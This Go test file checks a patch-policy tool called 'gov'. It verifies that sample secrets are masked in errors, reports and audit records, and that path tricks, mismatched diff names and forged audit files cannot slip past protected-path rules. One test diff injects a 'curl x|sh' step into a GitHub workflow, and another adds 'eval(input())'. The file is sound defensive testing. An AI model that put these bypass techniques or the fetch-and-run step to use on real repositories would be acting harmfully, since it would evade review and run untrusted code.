package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gov-policy/gov/internal/leaktest"
	"github.com/gov-policy/gov/scan/scantest"
)

func a13Kind(t *testing.T, rule string) scantest.Sample {
	t.Helper()
	for _, s := range leaktest.Kinds() {
		if s.Rule == rule {
			return s
		}
	}
	t.Fatalf("no sample %s", rule)
	return scantest.Sample{}
}

// a13Gov runs gov and returns exit code and stdout+stderr.
func a13Gov(t *testing.T, args ...string) (int, string) {
	t.Helper()
	t.Setenv(envBundle, "embedded")
	var out, errb bytes.Buffer
	code := runWith(args, strings.NewReader(""), &out, &errb)
	return code, out.String() + errb.String()
}

func a13Write(t *testing.T, name string, data []byte) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func a13NoRaw(t *testing.T, where, data string, secrets ...string) {
	t.Helper()
	for _, s := range secrets {
		if strings.Contains(data, s) {
			t.Errorf("%s holds the raw secret %q:\n%s", where, s, data)
		}
	}
}

// gov eval with a patch that is not a diff prints its first 40 bytes.
func TestAttackA13EvalNotADiffErrorEchoesSecret(t *testing.T) {
	pat := a13Kind(t, "github-pat")
	req, _ := json.Marshal(map[string]any{"environment": "production", "patch_content": pat.Secret + "\n"})
	code, out := a13Gov(t, "eval", "--request", a13Write(t, "req.json", req))
	if code != 2 {
		t.Errorf("exit %d, want 2", code)
	}
	a13NoRaw(t, "gov eval output", out, pat.Secret)
}

// gov eval with a malformed hunk prints the path and the hunk header.
func TestAttackA13EvalMalformedHunkEchoesSecret(t *testing.T) {
	pat := a13Kind(t, "github-pat")
	aws := a13Kind(t, "aws-access-key-id")
	path := "cfg/" + aws.Secret + ".py"
	diff := fmt.Sprintf("diff --git a/%s b/%s\n--- a/%s\n+++ b/%s\n@@ -1,1 +4294967296,1 @@ token = %q\n-x = 1\n+x = 2\n", path, path, path, path, pat.Secret)
	code, out := a13Gov(t, "eval", "--env", "production", "--patch", a13Write(t, "p.diff", []byte(diff)))
	if code != 2 {
		t.Errorf("exit %d, want 2", code)
	}
	a13NoRaw(t, "gov eval output", out, pat.Secret, aws.Secret)
}

// gov eval --request req.yaml with an unknown key prints the key.
func TestAttackA13EvalUnknownFieldEchoesSecret(t *testing.T) {
	pat := a13Kind(t, "github-pat")
	y := "environment: production\n" + pat.Secret + ": 1\npatch_content: |\n  diff --git a/a.py b/a.py\n  --- a/a.py\n  +++ b/a.py\n  @@ -1 +1 @@\n  -x = 1\n  +x = 2\n"
	code, out := a13Gov(t, "eval", "--request", a13Write(t, "req.yaml", []byte(y)))
	if code != 2 {
		t.Errorf("exit %d, want 2", code)
	}
	a13NoRaw(t, "gov eval output", out, pat.Secret)
}

// gov eval --print-input with an undeclared environment returns the raw
// EnvironmentError (the --print-input branch does not redact errors).
func TestAttackA13PrintInputEnvironmentErrorEchoesSecret(t *testing.T) {
	aws := a13Kind(t, "aws-access-key-id")
	diff := "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
	p := a13Write(t, "p.diff", []byte(diff))
	code, out := a13Gov(t, "eval", "--print-input", "--env", leaktest.Line(aws), "--patch", p)
	if code != 2 {
		t.Errorf("exit %d, want 2", code)
	}
	a13NoRaw(t, "gov eval --print-input output", out, aws.Secret)
}

// Guard: gov eval (decision path) masks an undeclared environment's secret.
func TestAttackA13EvalEnvironmentErrorMasked(t *testing.T) {
	aws := a13Kind(t, "aws-access-key-id")
	diff := "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
	code, out := a13Gov(t, "eval", "--env", leaktest.Line(aws), "--patch", a13Write(t, "p.diff", []byte(diff)))
	if code != 2 {
		t.Errorf("exit %d, want 2", code)
	}
	a13NoRaw(t, "gov eval output", out, aws.Secret)
}

// Secrets in file paths and rename paths of the diff, in every format.
func TestAttackA13EvalPathSecretsAllFormats(t *testing.T) {
	pat := a13Kind(t, "github-pat")
	aws := a13Kind(t, "aws-access-key-id")
	diff := "diff --git a/old/" + pat.Secret + ".py b/new/" + aws.Secret + ".py\nsimilarity index 90%\nrename from old/" + pat.Secret + ".py\nrename to new/" + aws.Secret + ".py\n--- a/old/" + pat.Secret + ".py\n+++ b/new/" + aws.Secret + ".py\n@@ -1,1 +1,1 @@\n-x = 1\n+eval(input())\n"
	p := a13Write(t, "p.diff", []byte(diff))
	audit := t.TempDir()
	for _, format := range []string{"text", "json", "sarif", "github"} {
		_, out := a13Gov(t, "eval", "--env", "production", "--patch", p, "--format", format, "--audit-dir", audit)
		a13NoRaw(t, "gov eval --format "+format, out, pat.Secret, aws.Secret)
	}
	_, out := a13Gov(t, "eval", "--env", "production", "--patch", p, "--print-input")
	a13NoRaw(t, "gov eval --print-input", out, pat.Secret, aws.Secret)
	filepath.WalkDir(audit, func(path string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			b, _ := os.ReadFile(path)
			a13NoRaw(t, path, string(b), pat.Secret, aws.Secret)
		}
		return nil
	})
}

// A secret in the path of a file that holds a found secret: the finding's
// file is recorded raw, and every reader of the records (gov report in each
// format, gov simulate, gov audit log) prints what the record holds.
func TestAttackA13RecordReadersFindingPathSecret(t *testing.T) {
	pat := a13Kind(t, "github-pat")
	aws := a13Kind(t, "aws-access-key-id")
	path := "cfg/" + aws.Secret + "/settings.py"
	diff := "diff --git a/" + path + " b/" + path + "\nnew file mode 100644\n--- /dev/null\n+++ b/" + path + "\n@@ -0,0 +1,1 @@\n+TOKEN = \"" + pat.Secret + "\"\n"
	p := a13Write(t, "p.diff", []byte(diff))
	audit := t.TempDir()
	for _, format := range []string{"text", "json", "sarif", "github"} {
		_, out := a13Gov(t, "eval", "--env", "staging", "--patch", p, "--format", format, "--audit-dir", audit)
		a13NoRaw(t, "gov eval --format "+format, out, pat.Secret, aws.Secret)
	}
	for _, args := range [][]string{
		{"report", "--framework", "soc2", "--audit-dir", audit},
		{"report", "--framework", "soc2", "--audit-dir", audit, "--format", "json"},
		{"report", "--framework", "soc2", "--audit-dir", audit, "--format", "csv"},
		{"report", "--framework", "soc2", "--audit-dir", audit, "--format", "html"},
		{"simulate", "--bundle", "embedded", "--baseline", "embedded", "--audit-dir", audit, "--format", "json"},
		{"simulate", "--bundle", "embedded", "--baseline", "embedded", "--audit-dir", audit},
		{"audit", "log", "--audit-dir", audit},
	} {
		_, out := a13Gov(t, args...)
		a13NoRaw(t, "gov "+strings.Join(args[:2], " "), out, pat.Secret, aws.Secret)
	}
	filepath.WalkDir(audit, func(path string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			b, _ := os.ReadFile(path)
			a13NoRaw(t, "audit file", string(b), pat.Secret, aws.Secret)
		}
		return nil
	})
}

// A non-canonical path ("./" or "x/../" components) hides a protected path
// from the policies: gov allows a new workflow file that GNU patch -p1
// writes to .github/workflows/. A path that is not canonical must be refused
// (exit 2) or decided as the path it resolves to.
func TestAttackA13NonCanonicalPathHidesProtectedPath(t *testing.T) {
	for name, diff := range map[string]string{
		"traditional ./":  "--- /dev/null\n+++ b/./.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n",
		"git ./":          "diff --git a/./.github/workflows/x.yml b/./.github/workflows/x.yml\nnew file mode 100644\n--- /dev/null\n+++ b/./.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n",
		"git docs/../":    "diff --git a/docs/../.github/workflows/x.yml b/docs/../.github/workflows/x.yml\nnew file mode 100644\n--- /dev/null\n+++ b/docs/../.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n",
		"traditional ../": "--- /dev/null\n+++ b/docs/../.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n",
	} {
		code, out := a13Gov(t, "eval", "--env", "staging", "--patch", a13Write(t, "p.diff", []byte(diff)))
		if code == 0 {
			t.Errorf("%s: exit 0 (allow) for a new workflow file:\n%s", name, out)
		}
	}
}

// Guard: the canonical path is a protected path (exit 3, approval required).
func TestAttackA13CanonicalProtectedPathHeld(t *testing.T) {
	diff := "--- /dev/null\n+++ b/.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n"
	code, out := a13Gov(t, "eval", "--env", "staging", "--patch", a13Write(t, "p.diff", []byte(diff)))
	if code == 0 {
		t.Errorf("exit 0 for a new workflow file:\n%s", out)
	}
}

// A YAML request whose alias names an unknown anchor: the YAML error quotes
// the alias name raw.
func TestAttackA13EvalYAMLAnchorErrorEchoesSecret(t *testing.T) {
	pat := a13Kind(t, "github-pat")
	y := "environment: staging\nerror_context: *" + pat.Secret + "\n"
	code, out := a13Gov(t, "eval", "--request", a13Write(t, "req.yaml", []byte(y)))
	if code != 2 {
		t.Errorf("exit %d, want 2", code)
	}
	a13NoRaw(t, "gov eval output", out, pat.Secret)
}

// A traditional diff whose ---/+++ names differ: gov decides the +++ name
// (docs/deploy.yml, "modified"), GNU patch -p1 modifies the --- name, an
// existing workflow. The change to .github/workflows/deploy.yml is allowed.
func TestAttackA13TraditionalDiffMismatchedNames(t *testing.T) {
	diff := "--- a/.github/workflows/deploy.yml\n+++ b/docs/deploy.yml\n@@ -1,2 +1,2 @@\n on: push\n-jobs: {}\n+jobs: {evil: {runs-on: x, steps: [{run: curl x|sh}]}}\n"
	code, out := a13Gov(t, "eval", "--env", "staging", "--patch", a13Write(t, "p.diff", []byte(diff)))
	if code == 0 {
		t.Errorf("exit 0 (allow) for a change GNU patch applies to .github/workflows/deploy.yml:\n%s", out)
	}
}

// gov eval and gov explain --repo with a patch whose file path holds a
// secret and does not apply: the error names the path raw.
func TestAttackA13RepoErrorEchoesSecretPath(t *testing.T) {
	aws := a13Kind(t, "aws-access-key-id")
	path := "cfg/" + aws.Secret + "/settings.py"
	diff := "diff --git a/" + path + " b/" + path + "\n--- a/" + path + "\n+++ b/" + path + "\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
	p := a13Write(t, "p.diff", []byte(diff))
	repo := t.TempDir()
	for _, cmd := range []string{"eval", "explain"} {
		code, out := a13Gov(t, cmd, "--patch", p, "--env", "production", "--repo", repo)
		if code != 2 {
			t.Errorf("gov %s: exit %d, want 2\n%s", cmd, code, out)
		}
		if !strings.Contains(out, "patch does not apply") {
			t.Errorf("gov %s: the error does not say why:\n%s", cmd, out)
		}
		a13NoRaw(t, "gov "+cmd+" --repo", out, aws.Secret)
	}
}

// gov explain DIGEST reads a file of that name in the working directory
// (a repository checkout a pull request can add files to) before it looks
// in the audit store: a forged record saying allow is explained as the
// stored record, which denied, under the digest asked for.
func TestAttackA13ExplainDigestShadowedByFile(t *testing.T) {
	dir := t.TempDir()
	audit := filepath.Join(dir, "audit")
	aws := a13Kind(t, "aws-access-key-id")
	diff := a13Write(t, "p.diff", []byte("diff --git a/app/x.py b/app/x.py\n--- a/app/x.py\n+++ b/app/x.py\n@@ -1 +1 @@\n-x = 1\n+"+leaktest.Line(aws)+"\n"))
	if code, out := a13Gov(t, "eval", "--patch", diff, "--env", "production", "--audit-dir", audit); code != 1 {
		t.Fatalf("gov eval: exit %d, want 1 (deny)\n%s", code, out)
	}
	records, _ := filepath.Glob(filepath.Join(audit, "*", "*", "*.json"))
	if len(records) != 1 {
		t.Fatalf("records %v", records)
	}
	data, err := os.ReadFile(records[0])
	if err != nil {
		t.Fatal(err)
	}
	var rec map[string]any
	if err := json.Unmarshal(data, &rec); err != nil {
		t.Fatal(err)
	}
	d := rec["decision"].(map[string]any)
	d["decision"], d["reason"], d["violations"] = "allow", "forged", []any{}
	forged, _ := json.Marshal(rec)
	hex := strings.TrimSuffix(filepath.Base(records[0]), ".json")
	work := filepath.Join(dir, "checkout")
	if err := os.MkdirAll(work, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Chdir(work)
	for _, arg := range []string{hex[:12], "sha256:" + hex} {
		if err := os.WriteFile(arg, forged, 0o600); err != nil {
			t.Fatal(err)
		}
		code, out := a13Gov(t, "explain", "--audit-dir", audit, arg)
		if code != 0 || !strings.Contains(out, "decision: deny") || strings.Contains(out, "forged") {
			t.Errorf("gov explain %s: exit %d, want the stored record (deny):\n%s", arg, code, out)
		}
	}
}

// --repo loads each changed file's whole new content into the input: a
// secret in an unchanged line of the file is in what gov decides on, but
// only the patch and request fields are scanned for secrets to mask, so
// gov explain (a rule reading new_content) and --print-input print it raw.
func TestAttackA13RepoContentSecretRaw(t *testing.T) {
	aws := a13Kind(t, "aws-access-key-id")
	dir := t.TempDir()
	repo := filepath.Join(dir, "repo")
	bundle := filepath.Join(dir, "bundle")
	for name, text := range map[string]string{
		filepath.Join(repo, "app", "settings.py"):   leaktest.Line(aws) + "\nx = 1\ny = 2\n",
		filepath.Join(bundle, "gov.cue"):            "library: enabled: true\n",
		filepath.Join(bundle, "policies", "c.rego"): "package gov.custom.c\n\nwarn contains msg if {\n\tsome f in input.patch.files\n\tcontains(f.new_content, \"y = 3\")\n\tmsg := \"changed y\"\n}\n",
	} {
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	diff := a13Write(t, "p.diff", []byte("diff --git a/app/settings.py b/app/settings.py\n--- a/app/settings.py\n+++ b/app/settings.py\n@@ -2,2 +2,2 @@\n x = 1\n-y = 2\n+y = 3\n"))
	for _, args := range [][]string{
		{"explain", "--bundle", bundle, "--patch", diff, "--env", "production", "--repo", repo},
		{"explain", "--bundle", bundle, "--patch", diff, "--env", "production", "--repo", repo, "--format", "json"},
		{"eval", "--patch", diff, "--env", "production", "--repo", repo, "--print-input"},
	} {
		code, out := a13Gov(t, args...)
		if code != 0 {
			t.Fatalf("gov %s: exit %d\n%s", strings.Join(args, " "), code, out)
		}
		if args[0] == "explain" && !strings.Contains(out, "new_content") {
			t.Fatalf("gov explain does not show the content read:\n%s", out)
		}
		a13NoRaw(t, "gov "+strings.Join(args, " "), out, aws.Secret)
	}
}
